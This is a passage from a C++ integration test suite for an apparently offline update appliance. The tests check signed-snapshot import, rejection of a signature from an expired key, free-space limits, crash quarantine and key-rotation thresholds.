  w.trust(w.alice);
  // A real .deb, built with dpkg-deb.
  auto pkg = w.tmp / "pkgroot";
  fsys::create_directories(pkg / "DEBIAN");
  fsys::create_directories(pkg / "usr/bin");
  std::ofstream(pkg / "DEBIAN/control")
      << "Package: libdemo1\nVersion: 1.2-3+deb12u1\nArchitecture: amd64\n"
         "Source: demo (1.2-3+deb12u1)\nMaintainer: T <t@example.test>\nDescription: demo\n";
  std::ofstream(pkg / "usr/bin/demo") << "#!/bin/sh\necho demo\n";
  fsys::create_directories(w.tmp / "pool");
  auto b = run({"dpkg-deb", "--root-owner-group", "--build", pkg.string(),
                (w.tmp / "pool/libdemo1.deb").string()});
  INFO(b.err);
  REQUIRE(b.exit_code == 0);
  fsys::create_directories(w.tmp / "bin");
  std::ofstream(w.tmp / "bin/demo-server") << std::string(4096, 'B');
  std::ofstream(w.tmp / "bin/demo-server.json")
      << R"({"version": "1.4.2", "replaces": "/usr/local/bin/demo-server", "fixes": ["GO-2024-2916"]})";
  auto file = (w.tmp / "p.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file, "--packages",
          (w.tmp / "pool").string(), "--artifacts", (w.tmp / "bin").string()});
  auto info = json::parse(w.tool({"inspect", file, "--json"}).out);
  REQUIRE(info["packages"].size() == 1);
  CHECK(info["packages"][0]["name"] == "libdemo1");
  CHECK(info["packages"][0]["source"] == "demo");
  CHECK(info["artifacts"][0]["name"] == "demo-server");
  CHECK(info["kinds"]["package-index"]["count"] == 1);
  w.tool({"sign", file, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  auto res = json::parse(w.ctl_ok({"--json", "import", file}).out);
  CHECK(res["counts"]["packages"] == 1);
  CHECK(res["counts"]["artifacts"] == 1);
  // Held by the content store and kept by garbage collection.
  auto gc = json::parse(w.ctl_ok({"--json", "registry", "gc", "--apply", "--grace", "0"}).out);
  CHECK(gc["blobs_removed"].empty());
  w.ctl_ok({"store", "check"});
}

TEST_CASE("an import that would eat the free-space reserve is refused before staging",
          "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  auto file = (w.tmp / "s.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file, "--advisories",
          w.advisories_dir({"GO-2024-3228"}).string()});
  w.tool({"sign", file, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  std::ofstream(w.tmp / "cfg.yaml") << "import:\n  reserve_bytes: 1000000000000000000\n";
  const auto before = state_fingerprint(w.state);
  auto r = w.ctl({"--config", (w.tmp / "cfg.yaml").string(), "import", file});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("not enough free space"));
  CHECK(state_fingerprint(w.state) == before);
}

TEST_CASE("a signature by an expired key does not count", "[integration][snapshot]") {
  World w;
  // A key trusted while it was valid that has expired since: made in 2020 without expiry and
  // trusted; then its owner's later self-signature (gpg's faked clock) set an expiry in 2020, and
  // that update reached the appliance's keyring. (`trust add` refuses an already-expired key, and
  // the appliance's clock cannot be moved, so the update is imported with gpg directly.)
  auto home = w.tmp / "gold";
  fsys::create_directories(home);
  fsys::permissions(home, fsys::perms::owner_all, fsys::perm_options::replace);
  auto gen = run({"gpg", "--homedir", home.string(), "--batch", "--passphrase", "",
                  "--faked-system-time", "20200101T000000", "--quick-gen-key",
                  "Old Signer <old@example.test>", "ed25519", "sign", "never"});
  INFO(gen.err);
  REQUIRE(gen.exit_code == 0);
  auto pub =
      run({"gpg", "--homedir", home.string(), "--batch", "--armor", "--export", "old@example.test"})
          .out;
  std::ofstream(w.tmp / "old.asc") << pub;
  w.ctl_ok({"trust", "add", (w.tmp / "old.asc").string(), "--channel", "stable"});
  auto fpr_line = run({"gpg", "--homedir", home.string(), "--batch", "--with-colons", "--list-keys",
                       "old@example.test"})
                      .out;
  auto fpr_at = fpr_line.find("\nfpr:::::::::");
  REQUIRE(fpr_at != std::string::npos);
  auto fpr = fpr_line.substr(fpr_at + 13, 40);
  run_ok({"gpg", "--homedir", home.string(), "--batch", "--passphrase", "", "--pinentry-mode",
          "loopback", "--faked-system-time", "20200101T060000", "--quick-set-expire", fpr, "1d"});
  auto updated =
      run_ok({"gpg", "--homedir", home.string(), "--batch", "--armor", "--export", fpr}).out;
  auto imported =
      run({"gpg", "--homedir", (w.state / "trust" / "gnupg").string(), "--batch", "--import"},
          std::chrono::seconds(60), updated);
  INFO(imported.err);
  REQUIRE(imported.exit_code == 0);
  Crafted c;
  c.manifest = manifest_skeleton("stable", 1);
  c.add("advisories/0/a.json", osv_file("GO-2024-3228"), "advisory", "osv");
  auto bytes = c.manifest.dump(2);
  c.manifest_bytes = bytes;
  std::ofstream(w.tmp / "m.json", std::ios::binary) << bytes;
  auto sig =
      run({"gpg", "--homedir", home.string(), "--batch", "--faked-system-time", "20200101T120000",
           "--armor", "--output", "-", "--detach-sign", (w.tmp / "m.json").string()});
  REQUIRE(sig.exit_code == 0);
  c.extra_signatures = {{"signatures/old.asc", sig.out}};
  c.write(w.tmp / "s.tar");
  run({"gpgconf", "--homedir", home.string(), "--kill", "all"});
  const auto before = state_fingerprint(w.state);
  auto r = w.ctl({"import", (w.tmp / "s.tar").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("has expired") && Catch::Contains("0 valid signature(s)"));
  CHECK(state_fingerprint(w.state) == before);
  CHECK_THAT(w.ctl_ok({"trust", "list"}).out, Catch::Contains("[EXPIRED]"));
}

TEST_CASE(
    "a daemon killed while importing from its folder quarantines that file on restart instead of "
    "retrying it",
    "[integration][snapshot][hostile]") {
  World w;
  w.trust(w.alice);
  // A snapshot large enough that its import takes a moment (a 384 MiB artefact of random bytes).
  fsys::create_directories(w.tmp / "bin");
  run_ok({"sh", "-c",
          "head -c 402653184 /dev/urandom > '" + (w.tmp / "bin" / "big.bin").string() + "'"});
  auto file = w.tmp / "big.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file.string(), "--artifacts",
          (w.tmp / "bin").string()});
  w.tool({"sign", file.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  fsys::remove_all(w.tmp / "bin");
  // The store, its database and the channels; not the drop and quarantine folders.
  auto store_state = [&] {
    std::istringstream in(state_fingerprint(w.state));
    std::string line, out;
    while (std::getline(in, line)) {
      // The running daemon's address file and local socket.
      if (line.rfind("f airheald.addr", 0) == 0 || line.rfind("f airheald.sock", 0) == 0) continue;
      if (line.find(" import") == std::string::npos &&
          line.find(" quarantine") == std::string::npos)
        out += line + "\n";
    }
    return out;
  };
  std::string before;
  {
    Daemon d(Daemon::Options{w.state, "import:\n  poll_interval: 1s\n", {}});
    before = store_state();  // after the daemon's own start-up rows
    fsys::copy_file(file, w.state / "import" / ".big.tar.tmp");
    fsys::rename(w.state / "import" / ".big.tar.tmp", w.state / "import" / "big.tar");
    // The import has started when the file sits in importing/: kill -9 there (what a crash on the
    // file's content looks like to the next start).
    bool importing = false;
    for (int i = 0; i < 20000 && !importing; ++i) {
      importing = fsys::exists(w.state / "import" / "importing" / "big.tar");
      if (!importing) std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
    INFO(d.log());
    REQUIRE(importing);
    d.stop(SIGKILL);
  }
  CHECK(fsys::exists(w.state / "import" / "importing" / "big.tar"));
  // The next start quarantines it with the reason, journals it, and cleans the crashed staging.
  Daemon d(Daemon::Options{w.state, "import:\n  poll_interval: 1s\n", {}});
  bool quarantined = false;
  for (int i = 0; i < 200 && !quarantined; ++i) {
    quarantined = fsys::exists(w.state / "quarantine" / "big.tar.reason.txt");
    if (!quarantined) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  INFO(d.log());
  REQUIRE(quarantined);
  CHECK(fsys::exists(w.state / "quarantine" / "big.tar"));
  CHECK_FALSE(fsys::exists(w.state / "import" / "importing" / "big.tar"));
  CHECK_FALSE(fsys::exists(w.state / "import" / "big.tar"));
  CHECK_THAT(
      *fs::read_file(w.state / "quarantine" / "big.tar.reason.txt", 4096),
      Catch::Contains("was interrupted (the appliance stopped or crashed while importing it)"));
  CHECK((!fsys::exists(w.state / "staging") || fsys::is_empty(w.state / "staging")));
  d.stop();
  CHECK(store_state() == before);  // the store and channels are as they were
  auto journal = w.ctl_ok({"--json", "journal"}).out;
  CHECK_THAT(journal, Catch::Contains("was interrupted"));
  w.ctl_ok({"store", "check"});
  w.ctl_ok({"audit", "verify"});
  // Imported by hand once the operator has looked at it: it is fine.
  w.ctl_ok({"import", (w.state / "quarantine" / "big.tar").string()});
}

TEST_CASE(
    "a refused key rotation leaves the appliance's keyring untouched and counts only usable keys",
    "[integration][snapshot][hostile]") {
  World w;
  w.trust(w.alice);
  auto keyring_keys = [&] {
    return run_ok({"gpg", "--homedir", (w.state / "trust" / "gnupg").string(), "--batch",
                   "--with-colons", "--list-keys"})
        .out;
  };
  auto s = [&](int n) { return (w.tmp / ("r" + std::to_string(n) + ".tar")).string(); };
  fsys::create_directories(w.tmp / "keys");
  auto bob_pub = w.bob.write_public_key(w.tmp / "keys");
  // Refused: a threshold of 2 with only alice and bob usable would be fine, 3 is not.
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", s(1), "--advisories",
          w.advisories_dir({"GO-2024-3228"}).string(), "--trust-keys", bob_pub.string(),
          "--trust-add", w.bob.fingerprint(), "--trust-threshold", "3"});
  w.tool({"sign", s(1), "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  const auto before = state_fingerprint(w.state);
  const auto keys_before = keyring_keys();
  auto r = w.ctl({"import", s(1)});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("would leave channel stable with 2 usable key(s)") &&
                        Catch::Contains("threshold of 3"));
  CHECK(state_fingerprint(w.state) == before);
  CHECK(keyring_keys() == keys_before);  // bob's key was not imported
  CHECK(keyring_keys().find(w.bob.fingerprint()) == std::string::npos);
}
